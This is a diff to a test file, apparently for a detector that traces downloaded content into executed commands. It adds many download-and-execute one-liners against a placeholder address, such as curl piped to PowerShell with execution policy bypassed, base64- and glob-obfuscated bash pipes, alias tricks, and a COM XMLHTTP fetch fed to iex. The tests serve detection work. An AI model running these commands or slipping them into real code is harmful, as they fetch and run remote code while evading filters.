@@ -43,6 +43,20 @@ test.each([
   ['variables of cmd', `set a=ms&& set b=hta&& call %a%%b% ${ADDRESS}`],
   ['a signed program', `mshta ${ADDRESS}`],
   ['an option with an address', `regsvr32 /s /n /u /i:${ADDRESS} scrobj.dll`],
+  ['a shell that reads its input', `curl ${ADDRESS} | powershell -ep bypass -`],
+  ['a script of the desktop', `osascript -e "$(curl -s ${ADDRESS})"`],
+  ['braces in braces', `bash -c "{echo,${btoa(`curl -s ${ADDRESS}|sh`)}}|{base64,-d}|{bash,-i}"`],
+  ['the path of a program', `$(which curl) -s ${ADDRESS} | sh`],
+  ['a pattern for a name', `/???/c?rl -s ${ADDRESS} | /bin/b*h`],
+  ['another name', `alias q=curl; q ${ADDRESS} | sh`],
+  ['another name in PowerShell', `sal x iex; x (irm ${ADDRESS})`],
+  ['arguments that come in', `curl -s ${ADDRESS} | xargs -0 bash -c`],
+  ['line by line', `curl -s ${ADDRESS} | while read l; do eval "$l"; done`],
+  ['the outer quotes of cmd', `cmd.exe /c "powershell -command "iwr ${ADDRESS} | iex""`],
+  [
+    'an object that asks',
+    `$w=New-Object -ComObject MSXML2.XMLHTTP;$w.open('GET','${ADDRESS}',$false);$w.send();iex $w.responseText`,
+  ],
   ['Python', `python3 -c "import urllib.request as u;exec(u.urlopen('${ADDRESS}').read())"`],
 ])('follows what is fetched into what runs: %s', (_, command) => {
   expect(runs(command)).toContain(ADDRESS)
